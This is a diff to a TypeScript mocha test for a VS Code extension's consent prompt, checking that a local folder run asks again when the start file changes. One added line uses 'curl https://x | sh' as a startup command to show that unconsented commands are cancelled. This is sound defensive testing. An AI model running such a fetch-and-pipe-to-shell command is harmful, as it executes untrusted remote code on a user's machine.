@@ -5,6 +5,7 @@ import path from "node:path";
 import { afterEach, beforeEach, describe, it } from "mocha";
 import * as vscode from "vscode";
 import { withConsent } from "../../../../src/editor/arguments/consent";
+import { DeployFolder } from "../../../../src/editor/project/deployFolder";
 import { FolderRuns, type FolderRunsOptions } from "../../../../src/features/localService/folderRuns";
 import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
 import { MemoryState } from "../../../support/memoryState";
@@ -73,6 +74,28 @@ describe("the question before a folder runs on this machine", () => {
       ["It starts with the file main.py.", "It starts with the file main.py."],
     );
     assert.deepEqual(started.length, 2);
+  });
+
+  it("is asked again before a run goes on with another start", async () => {
+    const signal = new AbortController().signal;
+    const uri = vscode.Uri.file(folder);
+    const sent: unknown[] = [];
+    const run = { uri, note: () => undefined, send: async (...all: unknown[]) => void sent.push(all) };
+    const update = async () =>
+      await runs["send"](run as never, await DeployFolder.read(uri, new MemoryState(), { signal }), signal);
+    window.answer = "Run";
+    for (const mainFile of ["main.py", "main.py", "other.py"]) {
+      projectFile({ name: "Shop", mainFile });
+      await update();
+    }
+    assert.deepEqual(
+      window.asked.map(({ lines }) => lines[1]),
+      ["It starts with the file main.py.", "It starts with the file other.py."],
+    );
+    window.answer = undefined;
+    projectFile({ name: "Shop", startupCommand: "curl https://x | sh" });
+    await assert.rejects(update(), { name: "CancelledError" });
+    assert.equal(sent.length, 3);
   });
 
   it("is refused where the command does not fit", async () => {
